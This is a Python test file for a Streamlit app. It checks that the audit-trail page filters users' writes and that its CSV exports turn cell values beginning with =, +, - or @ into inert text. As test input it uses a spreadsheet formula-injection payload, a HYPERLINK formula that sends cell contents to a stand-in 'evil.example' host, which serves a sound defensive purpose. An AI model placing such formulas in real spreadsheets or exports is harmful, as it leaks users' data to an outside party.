"""The Audit trail through AppTest: the user's writes, filters, and CSV exports that hold no live formula."""

from __future__ import annotations

import csv
import io
import json

from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage
from streamlit.testing.v1 import AppTest

from .page_app import assert_clean, open_page, upload


def test_the_audit_page_lists_the_users_writes_and_exports_them(app_env):
    at = open_page("pages/chat.py")
    at.selectbox(key="strategy").set_value("facts").run()
    at.chat_input[0].set_value("My name is Alice.").run()
    at.session_state["user_id"] = "bob"
    at.chat_input[0].set_value("My name is Bob.").run()
    at.session_state["user_id"] = "alice"
    at.switch_page("pages/audit.py").run()
    assert_clean(at, "Audit trail")
    shown = at.dataframe(key="audit_table").value
    assert set(shown["user"]) == {"alice"} and "My name is Alice." in list(shown["content"])
    assert {"message_stored"} <= set(shown["action"])
    at.toggle(key="audit_all").set_value(True).run()
    assert {"alice", "bob"} <= set(at.dataframe(key="audit_table").value["user"])
    at.multiselect(key="audit_actions").set_value(["fact_add"]).run()
    assert set(at.dataframe(key="audit_table").value["action"]) == {"fact_add"}


class _KeptMedia(MemoryMediaFileStorage):
    """Streamlit's own in-memory media store, kept after the run so a test can read what a download serves."""

    kept: list[MemoryMediaFileStorage] = []

    def __init__(self, *args: object) -> None:
        super().__init__(*args)
        _KeptMedia.kept.append(self)


def _download(at: AppTest, label: str) -> str:
    button = next(d for d in at.get("download_button") if d.label == label)
    name = button.proto.url.rsplit("/", 1)[1]
    for storage in reversed(_KeptMedia.kept):
        try:
            return storage.get_file(name).content.decode()
        except Exception:  # noqa: BLE001 - another run's store
            continue
    raise AssertionError(f"no file behind {label!r}")


FORMULA = '=HYPERLINK("https://evil.example/?"&A1, "open")'


def test_the_audit_and_compare_csv_exports_hold_no_live_formulas(app_env, monkeypatch):
    monkeypatch.setattr("streamlit.testing.v1.app_test.MemoryMediaFileStorage", _KeptMedia)
    at = open_page("pages/chat.py")
    at.selectbox(key="strategy").set_value("buffer").run()
    at.chat_input[0].set_value(FORMULA).run()
    at.switch_page("pages/audit.py").run()
    rows = list(csv.DictReader(io.StringIO(_download(at, "Download as CSV"), newline="")))
    assert "'" + FORMULA in [r["content"] for r in rows], "the formula is text, with its leading quote"
    assert not any(v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values())

    at.switch_page("pages/compare.py").run()
    at.radio(key="cmp_source").set_value("Upload JSON").run()
    scenario = {"name": "@SUM(1+1)", "turns": [{"user": "-2+3"}, {"user": FORMULA, "expect": ["+1"]}]}
    upload(at, "cmp_upload", json.dumps(scenario).encode())
    at.multiselect(key="cmp_strategies").set_value(["buffer"]).run()
    at.button(key="cmp_run").click().run()
    assert not at.exception, [e.value for e in at.exception]
    rows = list(csv.DictReader(io.StringIO(_download(at, "Download results as CSV"), newline="")))
    assert [r["user"] for r in rows] == ["'-2+3", "'" + FORMULA] and rows[0]["scenario"] == "'@SUM(1+1)"
    assert json.loads(rows[1]["expected"]) == ["+1"], "lists as JSON, which starts with '['"
    assert not any(v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values())
